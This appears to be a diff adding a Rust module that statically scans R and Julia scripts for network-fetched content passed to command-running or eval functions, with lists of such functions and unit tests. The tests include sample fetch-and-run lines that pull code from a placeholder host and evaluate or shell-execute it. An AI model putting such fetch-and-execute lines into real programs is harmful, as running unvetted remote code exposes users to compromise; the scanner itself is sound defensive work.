@@ -1,0 +1,125 @@
+//! Programs of R and Julia, as far as they run what they fetch: which lines take something from the network, which
+//! names hold it, and which calls run it.
+//!
+//! Lines are read one by one, and nothing is decided that takes a parser; the commands that stand in such programs as
+//! constants are judged as those of a shell.
+
+use crate::python::{Argument, Call, Origin, Power, Role, Script};
+
+/// Names that hold what was fetched.
+const MAX_NAMES: usize = 256;
+const MAX_CALLS: usize = 256;
+/// Lines of one program.
+const MAX_LINES: usize = 20_000;
+
+/// Functions that run a command.
+const RUNS: [&str; 6] = ["system", "system2", "shell", "shell.exec", "pipe", "run"];
+/// Functions that run code.
+const EVALUATES: [&str; 5] = ["eval", "evalq", "sys.source", "dyn.load", "include_string"];
+/// Functions that read from an address.
+const READS: [&str; 14] = [
+    "url",
+    "readLines",
+    "readRDS",
+    "readr::read_file",
+    "read_file",
+    "scan",
+    "GET",
+    "httr::GET",
+    "getURL",
+    "fromJSON",
+    "jsonlite::fromJSON",
+    "curl",
+    "download",
+    "HTTP.get",
+];
+
+/// The calls of a program that run what it has fetched.
+#[must_use]
+pub fn analyse(text: &str) -> Script {
+    let mut script = Script { role: Role::Script, ..Script::default() };
+    let mut names: Vec<String> = Vec::new();
+    for (line, number) in text.lines().take(MAX_LINES).zip(1..) {
+        let line = line.split(" #").next().unwrap_or("").trim();
+        if line.is_empty() || line.starts_with('#') || line.len() > 8_000 {
+            continue;
+        }
+        let address = ["http://", "https://", "ftp://"].iter().any(|scheme| line.contains(scheme));
+        let fetches = address && READS.iter().any(|name| calls(line, name).is_some())
+            || names.iter().any(|name| mentions(line, name));
+        if !fetches {
+            continue;
+        }
+        for (list, power) in [(&RUNS[..], Power::Runs), (&EVALUATES[..], Power::Evaluates)] {
+            for name in list {
+                let Some(inside) = calls(line, name) else { continue };
+                // What is fetched elsewhere in the line is not given to this call.
+                let given = address && READS.iter().any(|read| calls(inside, read).is_some())
+                    || names.iter().any(|name| mentions(inside, name));
+                if given && script.calls.len() < MAX_CALLS {
+                    let argument = Argument {
+                        name: None,
+                        shown: inside.chars().take(80).collect(),
+                        text: None,
+                        origin: Origin { network: true, ..Origin::default() },
+                    };
+                    script.calls.push(Call {
+                        callee: (*name).to_owned(),
+                        power,
+                        arguments: vec![argument],
+                        line: number,
+                        at_import: true,
+                        reached: false,
+                        hidden: false,
+                        assembled: false,
+                    });
+                }
+            }
+        }
+        let assigned = line.split_once("<-").or_else(|| line.split_once('=')).map(|(name, _)| name.trim());
+        let plain = |name: &&str| {
+            !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
+        };
+        if let Some(name) = assigned.filter(plain)
+            && names.len() < MAX_NAMES
+        {
+            names.push(name.to_owned());
+        }
+    }
+    script
+}
+
+/// What stands behind the bracket of a call of this function.
+fn calls<'t>(line: &'t str, name: &str) -> Option<&'t str> {
+    line.match_indices(name).find_map(|(at, _)| {
+        let before = line[..at].chars().next_back();
+        let starts = before.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '_' | '.'));
+        let rest = line[at + name.len()..].trim_start();
+        rest.strip_prefix('(').filter(|_| starts)
+    })
+}
+
+/// Whether a line has this name as a word.
+fn mentions(line: &str, name: &str) -> bool {
+    line.match_indices(name).any(|(at, _)| {
+        let word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.');
+        let before = line[..at].chars().next_back().is_some_and(word);
+        let after = line[at + name.len()..].chars().next().is_some_and(|c| c.is_alphanumeric() || c == '_');
+        !before && !after
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_fetched_and_run_is_told_from_what_is_only_fetched() {
+        let found = |text: &str| analyse(text).calls.len();
+        assert_eq!(found("fit <- readRDS(url('http://x.example/f'))\nsystem(paste0('sh ', fit$path))\n"), 1);
+        assert_eq!(found("eval(parse(text = readLines('https://x.example/a.R')))"), 1);
+        assert_eq!(found("fit <- readRDS(url('https://x.example/f'))\nsummary(fit)\nsystem('ls')\n"), 0);
+        assert_eq!(found("x <- read.csv('data.csv')\nsystem(paste('wc', x))\n"), 0);
+        assert_eq!(found("# system(readLines('http://x'))"), 0);
+    }
+}
